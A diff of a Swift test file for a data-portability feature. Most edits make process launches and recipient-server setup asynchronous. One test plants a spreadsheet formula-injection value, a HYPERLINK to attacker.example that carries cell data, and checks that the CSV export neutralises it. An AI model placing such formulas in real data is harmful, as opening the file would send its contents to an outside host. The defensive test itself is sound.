@@ -51,11 +51,11 @@ struct PortabilityRightTests {
         let request = try await runStrong(harness, intake(["mode": "copy"]))
         #expect(request.state == .completed)
         let archive = try #require(request.outcome?.references["archive"])
-        let listing = try unzipListing(archive)
+        let listing = try await unzipListing(archive)
         #expect(listing.contains("data.json"))
         #expect(listing.contains("business.accounts.csv"))
         #expect(listing.contains("business.consents.csv"))
-        let csv = try unzipRead(archive, "business.accounts.csv")
+        let csv = try await unzipRead(archive, "business.accounts.csv")
         #expect(csv.hasPrefix("row,category,column,value\r\n"))
         let folder = URL(fileURLWithPath: archive).deletingLastPathComponent()
         #expect(
@@ -75,23 +75,23 @@ struct PortabilityRightTests {
             "sqlite3", harness.directory.file("business.sqlite"),
             "UPDATE accounts SET display_name = '\(formula.replacingOccurrences(of: "'", with: "''"))' WHERE email = '\(SampleBusinessDatabase.email(10))'",
         ]
-        try ProcessLaunches.run(update)
+        try await ProcessLaunches.run(update)
         update.waitUntilExit()
         #expect(update.terminationStatus == 0)
         let request = try await runStrong(harness, intake(["mode": "copy"]))
         let archive = try #require(request.outcome?.references["archive"])
-        let csv = try unzipRead(archive, "business.accounts.csv")
+        let csv = try await unzipRead(archive, "business.accounts.csv")
         #expect(
             csv.contains(",user.account.nickname,display_name,\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"open\"\")\"\r\n"),
             "\(csv)")
         #expect(!csv.contains(",=HYPERLINK"))
         #expect(csv.contains("\"'\(SampleBusinessDatabase.phone(10))\""), "a leading + is neutralised too")
-        #expect(try unzipRead(archive, "data.json").contains("=HYPERLINK"), "the JSON keeps the value exactly")
+        #expect(try await unzipRead(archive, "data.json").contains("=HYPERLINK"), "the JSON keeps the value exactly")
     }
 
     /// "… transfer your personal information to other entities designated by you … we will conduct necessary verification of your identity"
     @Test(arguments: LedgerDriver.allCases) func aTransferReachesTheAllowedRecipientAfterRetries(on driver: LedgerDriver) async throws {
-        let server = try RecipientServer(failures: 1)
+        let server = try await RecipientServer(failures: 1)
         let harness = try await harness(on: driver, rights(port: server.port, attempts: 3))
         let request = try await runStrong(harness, intake(["mode": "transfer", "recipient": "other-cloud"]))
         #expect(request.state == .completed)
@@ -111,7 +111,7 @@ struct PortabilityRightTests {
     /// A recipient whose signing secret is not in the environment gets nothing: no transfer
     /// leaves unsigned.
     @Test func withoutTheRecipientsSecretNothingIsSent() async throws {
-        let server = try RecipientServer(failures: 0)
+        let server = try await RecipientServer(failures: 0)
         let rights = self.rights(port: server.port).replacingOccurrences(
             of: "secret_env: \(RecipientServer.secretEnvironment)", with: "secret_env: RIGHTSKIT_TEST_UNSET_RECIPIENT_SECRET")
         let harness = try await harness(on: .sqlite, rights)
@@ -123,7 +123,7 @@ struct PortabilityRightTests {
     }
 
     @Test(arguments: LedgerDriver.allCases) func anUnreachableRecipientIsRetriedLaterThenRefused(on driver: LedgerDriver) async throws {
-        let server = try RecipientServer(failures: 100)
+        let server = try await RecipientServer(failures: 100)
         let harness = try await harness(on: driver, rights(port: server.port, attempts: 2))
         let waiting = try await runStrong(harness, intake(["mode": "transfer", "recipient": "other-cloud"]))
         #expect(waiting.state == .inProgress)
@@ -144,7 +144,7 @@ struct PortabilityRightTests {
     }
 
     @Test(arguments: LedgerDriver.allCases) func aTransferNeedsStrongVerification(on driver: LedgerDriver) async throws {
-        let server = try RecipientServer(failures: 0)
+        let server = try await RecipientServer(failures: 0)
         let harness = try await harness(on: driver, rights(port: server.port) + "\n  verification: code")
         let request = try await harness.run(intake(["mode": "transfer", "recipient": "other-cloud"]))
         #expect(request.state == .denied)
@@ -156,8 +156,8 @@ struct PortabilityRightTests {
 
     /// A listed recipient that answers 307 elsewhere: the data reaches the listed address only.
     @Test(arguments: LedgerDriver.allCases) func aRedirectIsNeverFollowed(on driver: LedgerDriver) async throws {
-        let elsewhere = try RecipientServer(failures: 0)
-        let listed = try RecipientServer(failures: 0, redirectTo: elsewhere.port)
+        let elsewhere = try await RecipientServer(failures: 0)
+        let listed = try await RecipientServer(failures: 0, redirectTo: elsewhere.port)
         let harness = try await harness(
             on: driver, rights(port: listed.port, attempts: 1).replacingOccurrences(of: "rounds: 2", with: "rounds: 1"))
         let request = try await runStrong(harness, intake(["mode": "transfer", "recipient": "other-cloud"]))
@@ -180,8 +180,8 @@ struct PortabilityRightTests {
     /// The outbound client a module gets is limited to the origins it lists: another port of
     /// the same host is refused before any connection is made.
     @Test func theOutboundClientRefusesAnOriginTheModuleDoesNotList() async throws {
-        let listed = try RecipientServer(failures: 0)
-        let unlisted = try RecipientServer(failures: 0)
+        let listed = try await RecipientServer(failures: 0)
+        let unlisted = try await RecipientServer(failures: 0)
         var list = OutboundAllowList(allowsLoopbackHTTP: true)
         let listedURL = try #require(URL(string: "http://127.0.0.1:\(listed.port)/import"))
         try list.allow(listedURL)
@@ -211,7 +211,7 @@ struct PortabilityRightTests {
     }
 
     /// Reads one file of a ZIP archive with Python's zipfile.
-    func unzipRead(_ archive: String, _ name: String) throws -> String {
+    func unzipRead(_ archive: String, _ name: String) async throws -> String {
         let process = Process()
         process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
         process.arguments = [
@@ -220,14 +220,14 @@ struct PortabilityRightTests {
         ]
         let pipe = Pipe()
         process.standardOutput = pipe
-        try ProcessLaunches.run(process)
+        try await ProcessLaunches.run(process)
         let data = pipe.fileHandleForReading.readDataToEndOfFile()
         process.waitUntilExit()
         return String(decoding: data, as: UTF8.self)
     }
 
     /// Lists the names in a ZIP archive with Python's zipfile, an independent reader.
-    func unzipListing(_ archive: String) throws -> [String] {
+    func unzipListing(_ archive: String) async throws -> [String] {
         let process = Process()
         process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
         process.arguments = [
@@ -236,7 +236,7 @@ struct PortabilityRightTests {
         ]
         let pipe = Pipe()
         process.standardOutput = pipe
-        try ProcessLaunches.run(process)
+        try await ProcessLaunches.run(process)
         let data = pipe.fileHandleForReading.readDataToEndOfFile()
         process.waitUntilExit()
         #expect(process.terminationStatus == 0, "the archive is a valid ZIP")
